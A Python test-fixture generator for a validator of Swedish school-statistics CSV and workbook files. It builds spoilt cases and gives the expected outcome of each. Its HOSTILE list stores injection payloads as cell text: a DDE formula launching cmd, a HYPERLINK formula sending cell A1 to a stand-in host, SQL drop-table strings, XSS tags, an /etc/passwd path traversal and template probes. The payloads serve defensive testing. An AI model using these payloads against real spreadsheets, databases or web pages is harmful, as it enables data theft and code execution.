"""Odd and bad files, made anew at every run: for each what a careful analyst would want to happen to it, and why.

Each is one of the exports of exports.py, spoilt in one way. The numbers are those of the kinds: encoding 0–9, dialect
10–22, structure 30–47, values 100–119, hostile text 200–232, personal data 300–308, files that are not what they say
400–412, workbooks 450–452, workbooks that attack 500–501.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import re
import tarfile
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from typing import Literal

import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter

from tests.queries.intake.exports import (
    ACTIONS,
    EXPORTS,
    KOLADA,
    MERIT,
    PER_MUNICIPALITY,
    PER_SCHOOL,
    PUPILS,
    SHARE,
    TEMPLATE,
    TEMPLATE_HEADINGS,
    Export,
)

Expected = Literal["accepted", "warnings", "needs", "rejected"]


@dataclass(frozen=True)
class Case:
    """One file. name is also what the analyst calls it.

    line and column: where the fault stands, when it stands in one cell. secrets: texts that no message may repeat.
    reads_as: the export whose rows an accepted file must give, however it is written. is_hostile: the file may bring
    down the process that opens it.
    """

    name: str
    content: bytes
    expected: Expected
    why: str
    line: int | None = None
    column: str = ""
    secrets: tuple[str, ...] = ()
    reads_as: Export | None = None
    is_hostile: bool = False


def cases() -> list[Case]:
    """Every case, in the order of the kinds."""
    return [
        *encodings(),
        *dialects(),
        *structures(),
        *headings(),
        *keys_and_registers(),
        *numbers(),
        *years_and_words(),
        *hostile_texts(),
        *personal_data(),
        *not_what_it_says(),
        *workbooks(),
        *attacking_workbooks(),
    ]


def good(
    number: int,
    words: str,
    export: Export,
    why: str,
    content: bytes | None = None,
    *,
    reads_as: Export | None = None,
) -> Case:
    """A file to accept: an export, or other bytes that hold the same."""
    if content is None:
        return Case(f"{number:03} {words} {export.name}", export.csv(), "accepted", why, reads_as=reads_as)
    return Case(f"{number:03} {words} {export.name}", content, "accepted", why, reads_as=reads_as or export)


def bad(
    number: int,
    words: str,
    export: Export,
    why: str,
    content: bytes | None = None,
    *,
    line: int | None = None,
    column: str = "",
    secrets: tuple[str, ...] = (),
) -> Case:
    """A file to reject, and the row and column that the analyst must be sent to."""
    content = export.csv() if content is None else content
    return Case(f"{number:03} {words} {export.name}", content, "rejected", why, line, column, secrets)


def encodings() -> Iterator[Case]:
    """000–009: how å, ä and ö were saved."""
    for export in EXPORTS:
        text = export.text()
        yield good(0, "utf-8", export, "UTF-8 utan märke är UTF-8", text.encode())
        yield good(1, "utf-8 med bom", export, "så sparar Skolverket och Excel", export.csv())
        yield good(2, "cp1252", export, "inte UTF-8, och läsbart på bara ett sätt", text.encode("cp1252"))
    for export in (TEMPLATE, ACTIONS):
        text = export.text()
        yield good(3, "latin-1", export, "samma bytes för svenska bokstäver", text.encode("latin-1"))
        yield good(5, "utf-16 le", export, "märket säger det", b"\xff\xfe" + text.encode("utf-16-le"))
        yield good(6, "utf-16 be", export, "märket säger det", b"\xfe\xff" + text.encode("utf-16-be"))
    for export in (PER_MUNICIPALITY, TEMPLATE, ACTIONS):
        text = export.text()
        yield bad(
            4,
            "macroman",
            export,
            "å blir Œ: rubriker och namn är förstörda",
            text.encode("mac-roman"),
        )
        twice = text.encode().decode("cp1252").encode()
        yield bad(7, "dubbelkodad", export, "å blir Ã¥: förstört innan filen kom", twice)
        yield good(9, "nfd", export, "a och ring är samma å", unicodedata.normalize("NFD", text).encode())
    for export in (PER_SCHOOL, ACTIONS):
        *above, last = export.text().encode().split(b"\n")[: export.last]
        mixed = b"\n".join([*above, last.decode().replace("e", "é").encode("cp1252"), b""])
        yield bad(8, "blandade bytes", export, "en rad är sparad på ett annat sätt", mixed)
    lost = ACTIONS.put(2, "Aktivitet", "L\ufffdxhj\ufffdlp p\ufffd alla skolor")
    yield bad(8, "förlorade tecken", lost, "bokstäver är borta för gott", line=2)


def dialects() -> Iterator[Case]:
    """010–022: separators, line ends, rows around the table."""
    points = KOLADA.map("value", lambda _, cell: cell.replace(",", "."))
    yield good(
        10,
        "komma och decimalpunkt",
        points,
        "så skriver Koladas egna verktyg",
        points.csv(","),
        reads_as=KOLADA,
    )
    yield good(10, "komma och citattecken", TEMPLATE, "decimalkomman står inom citat", TEMPLATE.csv(","))
    for export in (TEMPLATE, ACTIONS):
        yield good(12, "tabb", export, "tabb skiljer cellerna", export.csv("\t"))
        first = b"\xef\xbb\xbfsep=;\r\n"
        yield good(13, "sep-rad", export, "Excels egen rad", first + export.text().encode())
        yield good(16, "bara cr", export, "gamla Mac-radslut", export.text(newline="\r").encode())
    for export in (TEMPLATE, KOLADA):
        unquoted = export.text(",").replace('"', "").encode()
        why = "decimalkommat delar cellen: raden har en cell för mycket"
        yield bad(14, "komma utan citattecken", export, why, unquoted)
    for export in (TEMPLATE, ACTIONS, PER_MUNICIPALITY):
        lines = export.text(newline="\n").split("\n")
        at = export.last
        lines[at - 1] = lines[at - 1].replace(";", "\t")
        why = "en rad har andra skiljetecken"
        yield bad(15, "blandade skiljetecken", export, why, "\n".join(lines).encode(), line=at)
    mixed = TEMPLATE.text(newline="\n").replace("\n", "\r\n", 2).encode()
    yield good(17, "blandade radslut", TEMPLATE, "alla är radslut", mixed)
    for export in (TEMPLATE, PER_SCHOOL):
        yield good(18, "inget sista radslut", export, "sista raden är hel", export.csv().rstrip(b"\r\n"))
    blank = ("",) * len(TEMPLATE_HEADINGS)
    yield good(
        19, "tomma rader", TEMPLATE.insert(4, blank, blank), "tomma rader säger inget", reads_as=TEMPLATE
    )
    yield good(
        19, "tomma rader sist", TEMPLATE.insert(7, (), (), ()), "tomma rader säger inget", reads_as=TEMPLATE
    )
    torn = PER_SCHOOL.insert(PER_SCHOOL.first + 2, ())
    why = "tabellen slutar vid en tom rad: resten får inte försvinna tyst"
    yield bad(19, "tom rad i tabellen", torn, why, line=PER_SCHOOL.first + 3)
    for export in (TEMPLATE, ACTIONS):
        wide = export.with_rows((*row, "", "", "") for row in export.rows)
        yield good(20, "avslutande semikolon", wide, "tomma kolumner till höger", reads_as=export)
    padded = PER_SCHOOL.with_rows((*row, *("",) * (11 - len(row))) for row in PER_SCHOOL.rows)
    padded = replace(padded, has_last_cell=False, newline="\r\n")
    yield good(20, "omsparad i excel", padded, "så ser Skolverkets fil ut efter Excel", reads_as=PER_SCHOOL)
    title = ("Utdrag ur Kolada",), ("Hämtat 2026-11-02",), ()
    yield good(
        21, "titelrader", KOLADA.insert(1, *title), "rubrikerna känns igen längre ned", reads_as=KOLADA
    )
    title = ("Verksamhetsplan 2021, barn- och ungdomsnämnden",), ()
    yield good(
        21, "titelrader", ACTIONS.insert(1, *title), "rubrikerna känns igen längre ned", reads_as=ACTIONS
    )
    without = PER_SCHOOL.with_rows(PER_SCHOOL.rows[: PER_SCHOOL.last])
    yield good(21, "utan förklaring", without, "definitionerna hör inte till tabellen", reads_as=PER_SCHOOL)
    for export in (TEMPLATE, KOLADA):
        last = len(export.rows) + 1
        noted = export.insert(last, ("* Preliminära uppgifter", *("",) * (len(export.rows[0]) - 1)))
        why = "raden är ingen uppgift, och ingen vet vilka rader den gäller"
        yield bad(22, "fotnot", noted, why, line=last)
    other = KOLADA.with_rows([*KOLADA.rows, (), ("Skola", "Rektorsområde", "Antal"), ("A", "B", "5")])
    yield bad(22, "två tabeller", other, "bara den ena tabellen förstås", line=len(KOLADA.rows) + 2)
    twice = PER_SCHOOL.insert(PER_SCHOOL.last + 1, (), *PER_SCHOOL.rows[5:10])
    yield bad(22, "två tabeller", twice, "tabellen upprepas under en tom rad", line=PER_SCHOOL.last + 3)


def structures() -> Iterator[Case]:
    """030–047: empty files, broken rows and cells."""
    for words, content in (
        ("tom fil", b""),
        ("bara bom", b"\xef\xbb\xbf"),
        ("bara blanka rader", b"\r\n \r\n\t\r\n"),
        ("bara semikolon", b";;;;;\r\n;;;;;\r\n"),
    ):
        yield bad(30, words, TEMPLATE, "filen har inget innehåll", content)
    for export in EXPORTS:
        why = "inga rader: ett läsår som inte är publicerat, eller en misslyckad export"
        only = export.with_rows(export.rows[: export.headings])
        yield bad(31, "bara rubriker", only, why)
        headless = export.with_rows(export.rows[export.headings :])
        yield bad(32, "utan rubriker", headless, "kolumnerna får inte gissas efter ordning")
    for export, heading in ((TEMPLATE, "Utfall"), (KOLADA, "value"), (PER_SCHOOL, SHARE)):
        doubled = export.with_rows(with_cell_again(export, heading))
        yield bad(34, "rubrik två gånger", doubled, "vilken av dem gäller?", line=export.headings)
    doubled = ACTIONS.with_rows(with_cell_again(ACTIONS, "Status")).csv()
    why = "vilken av dem gäller? Det får analytikern svara på"
    yield Case("034 rubrik två gånger verksamhetsplan.csv", doubled, "needs", why)
    for export in (TEMPLATE, ACTIONS, KOLADA, PER_MUNICIPALITY):
        shouted = export.with_row(
            export.headings, *(f" {cell.upper()}  " for cell in export.row(export.headings))
        )
        yield good(35, "rubriker med versaler och blanksteg", shouted, "samma ord", reads_as=export)
    for export, line, cells in (
        (TEMPLATE, 3, ("9901", "N15419", "19901102", "2020")),
        (KOLADA, 3, ("N15419", "9902", "Almvidsta")),
        (ACTIONS, 3, ("Medborgare", "Nämndmål", "", "Sommarskola")),
        (PER_SCHOOL, 8, PER_SCHOOL.row(8)[:6]),
    ):
        yield bad(39, "kort rad", export.with_row(line, *cells), "raden är avbruten", line=line)
    for export, line in ((TEMPLATE, 3), (KOLADA, 3), (ACTIONS, 3), (PER_SCHOOL, 8)):
        cells = (*export.row(line)[:3], "inskjuten", *export.row(line)[3:])
        why = "en cell för mycket: allt till höger har flyttat"
        yield bad(40, "lång rad", export.with_row(line, *cells), why, line=line)
    for export, text in ((TEMPLATE, '"Se bilagan'), (ACTIONS, '"Startade i mars.')):
        line = export.first
        heading = "Anmärkning" if export is TEMPLATE else "Kommentar"
        spoilt = export.put(line, heading, "CITAT").csv().replace(b"CITAT", text.encode())
        why = "resten av filen blir en enda cell"
        yield bad(41, "öppet citattecken", export, why, spoilt, line=line)
    broken = ACTIONS.put(2, "Kommentar", "Startade i mars.\nUtvärderas i maj.")
    yield good(42, "radbrytning i cell", broken, "citattecknen håller ihop cellen")
    broken = TEMPLATE.put(2, "Anmärkning", "rad ett\r\nrad två\r\nrad tre").put(4, "Utfall", "okänt")
    why = "felet står på Excels rad 4, fast på textrad 6"
    yield bad(42, "fel under radbrytning i cell", broken, why, line=4, column="Utfall")
    quoted = ACTIONS.put(2, "Kommentar", 'Ett så kallat "mjukt" införande')
    unquoted = (
        quoted.text()
        .replace('"Ett', "Ett")
        .replace('""mjukt""', '"mjukt"')
        .replace('införande"', "införande")
    )
    yield good(43, "lösa citattecken", quoted, "inne i en text är de tecken som andra", unquoted.encode())
    for export, heading, other in (
        (TEMPLATE, "Utfall", "55,5"),
        (KOLADA, "value", "12,3"),
        (PER_SCHOOL, SHARE, "12,3"),
        (PER_MUNICIPALITY, SHARE, "12,3"),
    ):
        again = export.insert(export.last + 1, export.row(export.first))
        at = export.last + 1
        yield bad(44, "dubblett", again, "samma rad två gånger: räknas den dubbelt?", line=at)
        yield bad(45, "motsägande dubblett", again.put(at, heading, other), "vilken gäller?", line=at)
    wide = TEMPLATE.with_rows((*row, *("x",) * 10_000) for row in TEMPLATE.rows)
    yield bad(46, "tio tusen kolumner", wide, "ingen tabell av detta slag")
    huge = ACTIONS.put(2, "Kommentar", "ord " * 250_000)
    yield bad(47, "en cell på en megabyte", huge, "mer än Excel rymmer: en förvirrad export")


def with_cell_again(export: Export, heading: str) -> Iterator[tuple[str, ...]]:
    """The rows of an export with one of its columns once more at the end."""
    place = export.place(heading)
    for line, row in enumerate(export.rows, 1):
        yield (*row, row[place]) if export.headings <= line <= export.last else row


def headings() -> Iterator[Case]:
    """036–038: columns in other places, missing, and unknown."""
    for export in (TEMPLATE, KOLADA, PER_SCHOOL, ACTIONS):
        cells = export.row(export.headings)
        yield good(
            36,
            "kolumner i annan ordning",
            export.columns(*cells[::-1]),
            "rubrikerna följer med",
            reads_as=export,
        )
    for export, one, other in (
        (TEMPLATE, "År", "Utfall"),
        (TEMPLATE, "Utfall", "Antal elever eller svar"),
        (TEMPLATE, "Kommunkod", "Nyckeltalets id"),
        (KOLADA, "year", "value"),
        (KOLADA, "kpi", "municipality_id"),
        (PER_SCHOOL, SHARE, MERIT),
        (PER_SCHOOL, PUPILS, MERIT),
    ):
        swapped = export.rename(one, "x").rename(other, one).rename("x", other)
        words = f"{one[:9]} och {other[:9]} ombytta"
        yield bad(36, words, swapped, "rubrikerna står över fel kolumner")
    for export, heading in (
        (TEMPLATE, "Kön"),
        (TEMPLATE, "Utfall"),
        (KOLADA, "gender"),
        (PER_SCHOOL, "Kommun-kod"),
        (PER_MUNICIPALITY, "Typ av huvudman"),
    ):
        lacking = export.without(heading)
        yield bad(
            37,
            f"utan {heading[:10]}",
            lacking,
            "en kolumn som behövs saknas",
            line=None if heading == "Utfall" else export.headings,
        )
    for export in (TEMPLATE, PER_SCHOOL):
        wider = export.with_rows(
            (*row, "Min egen kolumn" if line == export.headings else "7")
            if export.headings <= line <= export.last
            else row
            for line, row in enumerate(export.rows, 1)
        )
        yield bad(38, "okänd kolumn", wider, "en uppgift som ingen tar hand om", line=export.headings)
    renamed = PER_SCHOOL.rename(SHARE, "Andel (%) elever med toppbetyg")
    yield bad(38, "okänd rubrik", renamed, "ett nyckeltal som inte är känt", line=6)
    hostile = TEMPLATE.rename("Anmärkning", "Utfall; drop table outcomes; --")
    yield bad(38, "sql som rubrik", hostile, "en okänd rubrik", line=1)
    hostile = PER_SCHOOL.rename(MERIT, "<img src=x onerror=alert(1)>")
    yield bad(38, "html som rubrik", hostile, "en okänd rubrik", line=6)


def keys_and_registers() -> Iterator[Case]:
    """114–118: codes and names."""
    for export, heading, line in (
        (TEMPLATE, "Kommunkod", 3),
        (KOLADA, "municipality_id", 3),
        (PER_SCHOOL, "Kommun-kod", 8),
        (PER_MUNICIPALITY, "Kommun-kod", 8),
    ):
        for words, code, why in (
            ("tappad nolla", "125", "Ekerös kod är 0125; 125 är ingen kod"),
            ("kod med decimal", "9901.5", "ingen kommunkod"),
        ):
            spoilt = export.put(line, heading, code)
            yield bad(114, words, spoilt, why, line=line, column=heading)
    unknown = TEMPLATE.put(3, "Kommunkod", "8888")
    yield bad(118, "okänd kommun", unknown, "finns inte", line=3, column="Kommunkod")
    strange = PER_MUNICIPALITY.put(7, "Kommun", "Ekerö")
    yield bad(118, "namn och kod säger olika", strange, "Ekerö har koden 0125", line=7)
    for words, code, why in (
        ("tappad nolla i enhetskod", "9901105", "skolan heter 09901105"),
        ("excels kod", "1,99E+07", "åtta siffror har blivit tre"),
        ("okänd skola", "19999999", "ingen sådan skola"),
        ("skolans namn i stället för kod", "Vindbrynsskolan", "namn är ingen nyckel"),
    ):
        spoilt = TEMPLATE.put(3, "Skolenhetskod", code)
        yield bad(115, words, spoilt, why, line=3, column="Skolenhetskod")
    for code in ("1,99E+07", "1990110"):
        spoilt = PER_SCHOOL.put(8, "Skol-enhetskod", code)
        yield bad(115, f"enhetskod {code}", spoilt, "ingen enhetskod", line=8, column="Skol-enhetskod")
    for kpi in ("N99999", "n15419x", "Meritvärde"):
        spoilt = TEMPLATE.put(3, "Nyckeltalets id", kpi)
        yield bad(118, f"okänt nyckeltal {kpi}", spoilt, "finns inte", line=3, column="Nyckeltalets id")
    yield bad(118, "bara okända nyckeltal", KOLADA.put_all("kpi", "XYZ"), "inget är känt")
    for words, text in (
        ("blanksteg efter", "Totalt "),
        ("hårt blanksteg efter", "Totalt\u00a0"),
        ("gemener", "totalt"),
    ):
        yield good(116, words, TEMPLATE.put(3, "Kön", text), "samma ord", reads_as=TEMPLATE)
    spaced = TEMPLATE.put(3, "Kommunkod", " 9901 ").put(3, "Skolenhetskod", "19901102\u00a0")
    yield good(116, "blanksteg runt koder", spaced, "samma koder", reads_as=TEMPLATE)
    shouted = PER_SCHOOL.put(8, "Skola", "VINDBRYNSSKOLAN")
    yield good(117, "skolans namn med versaler", shouted, "koden är nyckeln")


def numbers() -> Iterator[Case]:
    """100–111: figures."""
    points = TEMPLATE.map("Utfall", lambda _, cell: cell.replace(",", "."))
    yield good(100, "decimalpunkt överallt", points, "ett och samma decimaltecken", reads_as=TEMPLATE)
    mixed = TEMPLATE.put(4, "Utfall", "83.3")
    yield bad(100, "komma och punkt", mixed, "två decimaltecken i en kolumn", line=4, column="Utfall")
    mixed = PER_SCHOOL.put(8, SHARE, "71.9")
    yield bad(100, "komma och punkt", mixed, "två decimaltecken i en kolumn", line=8)
    percent = TEMPLATE.map("Utfall", lambda _, cell: f"{cell} %")
    yield good(101, "procenttecken", percent, "nyckeltalets enhet är procent", reads_as=TEMPLATE)
    percent = TEMPLATE.put_all("Nyckeltalets id", "N15505").map("Utfall", lambda _, cell: f"2{cell} %")
    yield bad(101, "procent av poäng", percent, "meritvärde är inte procent", line=2, column="Utfall")
    fractions = TEMPLATE.map("Utfall", lambda _, cell: f"0,{cell.replace(',', '')}")
    yield bad(102, "andel i stället för procent", fractions, "0,788 är 78,8 procent", column="Utfall")
    one = TEMPLATE.put(3, "Utfall", "0,719")
    yield bad(
        102,
        "en andel bland procent",
        one,
        "hundra gånger mindre än förut",
        line=3,
        column="Utfall",
    )
    for words, text, why in (
        ("över hundra", "178,8", "en andel är högst 100"),
        ("under noll", "-3,5", "en andel är minst 0"),
        ("minus som tankstreck", "\u22123,5", "en andel är minst 0"),
        ("nan", "NaN", "inget tal"),
        ("oändligt", "inf", "inget tal"),
        ("minus oändligt", "-Infinity", "inget tal"),
        ("för stort", "1e309", "större än något tal"),
        ("breda siffror", "７８,８", "siffror ur ett annat teckensnitt"),
        ("arabiska siffror", "٧٨,٨", "siffror ur en annan skrift"),
        ("division med noll", "#DIV/0!", "ett fel i kalkylbladet"),
        ("saknat värde i excel", "#SAKNAS!", "ett fel i kalkylbladet"),
        ("bruten referens", "#REF!", "ett fel i kalkylbladet"),
        ("n/a", "n/a", "inget av Skolverkets tecken"),
        ("streck", "-", "inget av Skolverkets tecken"),
        ("ord", "saknas", "inget tal"),
        ("null", "NULL", "inget tal"),
        ("formel", "=1+1", "en formel, inget tal"),
        ("två tal", "78,8 (75,1)", "vilket?"),
        ("intervall", "78-80", "vilket?"),
        ("ungefär", "ca 79", "inget tal"),
        ("med enhet", "78,8 procent", "inget tal"),
        ("två komman", "1,078,8", "inget tal"),
        ("tusental med punkt", "1.078,8", "punkt och komma i samma tal"),
        ("hexadecimalt", "0x4E", "inget tal"),
        ("exponent", "7,88E+01", "Excel har skrivit om talet"),
        ("datum", "2020-05-08", "Excel har gjort om 8,5 till en dag"),
        ("månad", "maj-20", "Excel har gjort om talet till en månad"),
    ):
        spoilt = TEMPLATE.put(3, "Utfall", text)
        yield bad(109, words, spoilt, why, line=3, column="Utfall")
    for words, text in (
        ("nan", "NaN"),
        ("oändligt", "inf"),
        ("för stort", "1e309"),
        ("breda siffror", "７１,２"),
    ):
        yield bad(109, words, KOLADA.put(3, "value", text), "inget tal", line=3, column="value")
        yield bad(109, words, PER_SCHOOL.put(8, SHARE, text), "inget tal", line=8)
    yield bad(103, "över hundra", PER_SCHOOL.put(8, SHARE, "171,9"), "en andel är högst 100", line=8)
    yield bad(103, "över hundra", KOLADA.put(3, "value", "171,2"), "en andel är högst 100", line=3)
    yield bad(104, "under noll", PER_SCHOOL.put(8, MERIT, "-219,6"), "poäng är minst 0", line=8)
    number = "Antal elever eller svar"
    for words, text in (
        ("mellanslag", "1 171"),
        ("hårt blanksteg", "1\u00a0171"),
        ("smalt blanksteg", "1\u202f171"),
    ):
        yield good(
            105,
            f"tusental med {words}",
            TEMPLATE.put(6, number, text),
            "så skrivs tusental",
            reads_as=TEMPLATE,
        )
        yield good(
            105,
            f"tusental med {words}",
            PER_MUNICIPALITY.put(8, PUPILS, text),
            "så skrivs tusental",
            reads_as=PER_MUNICIPALITY,
        )
    for export, heading, line in ((TEMPLATE, number, 6), (PER_MUNICIPALITY, PUPILS, 8)):
        for words, text, why in (
            ("tusental med punkt", "1.171", "är det tusen eller en komma ett?"),
            ("halva elever", "31,5", "elever är hela"),
            ("negativt antal", "-31", "antal är minst 0"),
            ("antal som ord", "många", "inget tal"),
        ):
            yield bad(106, words, export.put(line, heading, text), why, line=line)
    for sign in ("..", ".", "~100", "~0"):
        marked = TEMPLATE.put(3, "Utfall", "").put(3, "Markering", sign)
        yield good(107, f"markering {sign}", marked, "tecknet säger varför värdet saknas")
        marked = PER_SCHOOL.put(8, SHARE, sign)
        yield good(107, f"tecknet {sign}", marked, "Skolverkets eget tecken")
    both = TEMPLATE.put(3, "Markering", "..")
    yield bad(107, "värde och markering", both, "vilket gäller?", line=3, column="Utfall")
    neither = TEMPLATE.put(3, "Utfall", "")
    yield bad(
        107,
        "varken värde eller markering",
        neither,
        "varför saknas det?",
        line=3,
        column="Utfall",
    )
    odd = PER_SCHOOL.put(8, SHARE, "***")
    yield bad(107, "okänt tecken", odd, "inget av Skolverkets tecken", line=8)
    for words, minus in (("minus", "-"), ("riktigt minus", "\u2212")):
        difference = TEMPLATE.with_rows(
            [
                TEMPLATE_HEADINGS,
                ("9901", "U15461", "", "2020", "Totalt", "Kommunal", f"{minus}3,4", "", "", "", ""),
            ]
        )
        yield good(108, f"{words} i en skillnad", difference, "en skillnad får vara negativ")
    jump = TEMPLATE.put(2, "År", "2026").put(2, "Utfall", "21,4").csv()
    why = "långt från året före: rätt kolumn?"
    yield Case("120 ett språng utfall.csv", jump, "warnings", why, line=2, column="Utfall")
    withdrawn = KOLADA.put(3, "value", "").put(3, "status", "Privacy")
    yield good(107, "kolada sekretess", withdrawn, "Kolada säger varför")
    strange = KOLADA.put(3, "value", "").put(3, "status", "Hemligt")
    yield bad(107, "kolada okänd status", strange, "ingen av Koladas", line=3, column="status")


def years_and_words() -> Iterator[Case]:
    """112–113, 119: years, gender and other words."""
    for text in ("2020", "2019/20", "2019/2020", "19/20", "2019-2020", "lå 2019/20"):
        yield good(
            112,
            f"år {text.replace('/', '∕')}",
            TEMPLATE.put(3, "År", text),
            "läsår 2019/20",
            reads_as=TEMPLATE,
        )
    for words, text, why in (
        ("omvänt läsår", "20/19", "bakvänt"),
        ("omvänt långt läsår", "2020/2019", "bakvänt"),
        ("tre år", "2018-2020", "inget läsår"),
        ("två år isär", "2018/20", "inget läsår"),
        ("excels dag", "43831", "ett datum som Excel har gjort till ett tal"),
        ("långt fram", "2062", "har inte varit"),
        ("nästa decennium", "2031", "har inte varit"),
        ("1899", "1899", "Excels noll"),
        ("år noll", "0", "inget år"),
        ("två siffror", "20", "inget år"),
        ("ett datum", "2020-06-30", "ett datum, inget år"),
        ("år med decimal", "2020,5", "inget år"),
        ("tomt", "", "ett år behövs"),
        ("breda siffror", "２０２０", "siffror ur ett annat teckensnitt"),
    ):
        spoilt = TEMPLATE.put(3, "År", text)
        yield bad(112, f"år {words}", spoilt, why, line=3, column="År")
    for text in ("2020/19", "2018-2020", "43831", "2031/32", "Läsåret", ""):
        chosen = PER_SCHOOL.with_row(4, f"Valt läsår: {text}")
        words = f"valt läsår {text.replace('/', '∕')}"
        yield bad(112, words, chosen, "filen måste säga vilket läsår den gäller")
    without = PER_SCHOOL.with_row(4, "")
    yield bad(112, "utan valt läsår", without, "filens namn får inte avgöra")
    for export, heading, line in ((TEMPLATE, "Kön", 3), (KOLADA, "gender", 3)):
        for text in ("annat", "F", "1"):
            spoilt = export.put(line, heading, text)
            yield bad(113, f"kön {text}", spoilt, "inget av tre", line=line, column=heading)
    spoilt = TEMPLATE.put(3, "Huvudman", "Regional")
    yield bad(113, "okänd huvudman", spoilt, "inget av tre", line=3, column="Huvudman")
    spoilt = PER_SCHOOL.put(8, "Typ av huvudman", "Privat")
    yield bad(113, "okänd huvudman", spoilt, "inget av två", line=8, column="Typ av huvudman")
    spoilt = PER_SCHOOL.put(8, "Typ av huvudman", "Samtliga")
    yield bad(
        113,
        "en skola med alla huvudmän",
        spoilt,
        "en skola har en",
        line=8,
        column="Typ av huvudman",
    )
    strange = ACTIONS.put(2, "Status", "Blå").csv()
    why = "åtgärden räknas som öppen tills ordet förklaras, och ordet sägs"
    yield Case("119 okänt statusord verksamhetsplan.csv", strange, "accepted", why, line=2, column="Status")


HOSTILE = {
    "hyperlänk": '=HYPERLINK("http://exempel.invalid/?"&A1;"Klicka")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "snabel-a": "@SUM(1+1)*cmd|' /C calc'!A0",
    "brett likhetstecken": "＝1+1",
    "sql": "'; drop table actions; --",
    "mer sql": "\" or 1=1; copy actions to 'ut.csv'; --",
    "skript": "<script>window.__xss = 1</script>",
    "bild": "<img src=x onerror='window.__xss = 1'>",
    "bild i markdown": "![p](http://exempel.invalid/p.png)",
    "länk med skript": "[klicka](javascript:alert(1))",
    "länk i diagram": '<a href="http://exempel.invalid">skola</a>',
    "formel och symbol": "$\\frac{1}{0}$ :material/delete: :red[fara]",
    "omvänd skrift": "\u202eslutsats\u202c och fortsättning",
    "osynliga tecken": "Lä\u200bxhj\u200bälp\ufeff",
    "kyrilliskt a": "А-laget och А-planen",
    "ansi": "\x1b[31mRÖD\x1b[0m text",
    "falsk loggrad": "klart\n2026-11-22 12:00 publicerad av: någon annan",
    "mall": "{{7*7}} ${7*7} {0.__class__} %s %n",
    "sökväg": "../../../../etc/passwd",
    "femtusen tecken": "ord och åter ord " * 300,
    "emoji": "👩🏽‍🏫 nöjda 👍🏿 elever 🏳️‍🌈",
    "null": "NULL",
    "sant": "SANT",
    "nan": "NaN",
    "ser ut som ett datum": "2021-13-45",
    "apostrof": "''=1+1",
    "backslash": "C:\\nya\\tabeller\\",
}


def hostile_texts() -> Iterator[Case]:
    """200–232: text that other programs would run. Here it is text, and nothing else."""
    for number, (words, text) in enumerate(HOSTILE.items(), 200):
        hostile = ACTIONS.put(2, "Kommentar", text).put(3, "Aktivitet", f"{text} Sommarskola")
        yield good(number, words, hostile, "en text är en text")
    for number, words in ((203, "hyperlänk"), (207, "sql"), (211, "bild i markdown")):
        hostile = TEMPLATE.put(3, "Anmärkning", HOSTILE[words])
        yield good(number, f"{words} som anmärkning", hostile, "en text är en text")
    tab = ACTIONS.put(2, "Kommentar", "\t=1+1 efter en tabb")
    yield good(231, "tabb först", tab, "en text är en text")
    nul = ACTIONS.put(2, "Kommentar", "text\x00mer text")
    yield bad(232, "nollbyte i en text", nul, "text har inga nollbytes: något är trasigt", line=2)


def luhn(nine: str) -> str:
    """Nine digits and the check digit after them."""
    doubled = [int(digit) * (2 - place % 2) for place, digit in enumerate(nine)]
    return f"{nine}{-sum(each // 10 + each % 10 for each in doubled) % 10}"


# Birth numbers from 980 are Skatteverket's for tests: they belong to nobody.
PERSON, COORDINATED, OLD = luhn("110309981"), luhn("110369982"), luhn("200309983")


def personal_data() -> Iterator[Case]:
    """300–308: data about one person, which nobody may keep."""
    for words, text in (
        ("tio siffror med streck", f"{PERSON[:6]}-{PERSON[6:]}"),
        ("tolv siffror", f"20{PERSON}"),
        ("tolv siffror med streck", f"20{PERSON[:6]}-{PERSON[6:]}"),
        ("över hundra år", f"{OLD[:6]}+{OLD[6:]}"),
        ("samordningsnummer", f"{COORDINATED[:6]}-{COORDINATED[6:]}"),
    ):
        number = 301 if words == "samordningsnummer" else 300
        secrets = (text, text[-4:])
        hidden = ACTIONS.put(3, "Kommentar", f"Samtal om {text} den 3 mars.")
        why = "ett personnummer i en text"
        yield bad(number, words, hidden, why, line=3, column="Kommentar", secrets=secrets)
        hidden = TEMPLATE.put(3, "Anmärkning", text)
        yield bad(number, words, hidden, why, line=3, column="Anmärkning", secrets=secrets)
    numbers = [luhn(f"1103{day}98{day % 10}") for day in range(10, 15)]
    listed = TEMPLATE.put_all("Skolenhetskod", *numbers)
    why = "en kolumn med personnummer"
    yield bad(302, "i stället för enhetskod", listed, why, line=2, secrets=tuple(numbers))
    content = listed.xlsx(numbers=("Skolenhetskod",))
    yield bad(302, "som tal i kalkylblad", listed, why, content, line=2, secrets=tuple(numbers))
    short = [luhn(f"0{year}030998{year}")[1:] for year in range(1, 6)]
    listed = TEMPLATE.put_all("Skolenhetskod", *short)
    content = listed.xlsx(numbers=("Skolenhetskod",))
    yield bad(302, "utan sin nolla", listed, why, content, line=2, secrets=tuple(short))
    for number, words, text in (
        (303, "e-post", "kim.exempel@exempelkommunen.invalid"),
        (304, "telefon", "070-174 06 05"),
        (304, "telefon utomlands", "+46 8 465 004 00"),
    ):
        hidden = ACTIONS.put(4, "Kommentar", f"Fråga: {text}")
        yield bad(number, words, hidden, "kontakt till en person", line=4, secrets=(text,))
    pupils = Export(
        "klasslista.csv",
        (
            ("Elev", "Klass", "Svenska", "Matematik"),
            ("Kim Exempelson", "9A", "C", "B"),
            ("Robin Påhittsson", "9A", "E", "F"),
        ),
    )
    secrets = ("Exempelson", "Påhittsson")
    yield bad(305, "en rad per elev", pupils, "uppgifter om enskilda elever", line=1, secrets=secrets)
    named = pupils.with_rows(
        [
            ("Förnamn", "Efternamn", "Klass", "Betyg"),
            ("Kim", "Exempelson", "9A", "C"),
            ("Robin", "Påhittsson", "9B", "E"),
        ]
    )
    yield bad(
        306,
        "förnamn och efternamn",
        named,
        "uppgifter om enskilda elever",
        line=1,
        secrets=secrets,
    )
    coded = pupils.with_rows([("Nr", "Klass", "Sv", "Ma"), ("1", "9A", "C", "B"), ("2", "9B", "E", "F")])
    yield bad(306, "elever utan namn", coded, "uppgifter om enskilda elever", line=1)
    register = Export(
        "register.csv",
        (
            ("Skolenhetskod", "Skola", "Rektors namn", "Rektors e-post"),
            ("19901101", "Silverängsbrynets skola", "Kim Exempelson", "kim@exempelkommunen.invalid"),
        ),
    )
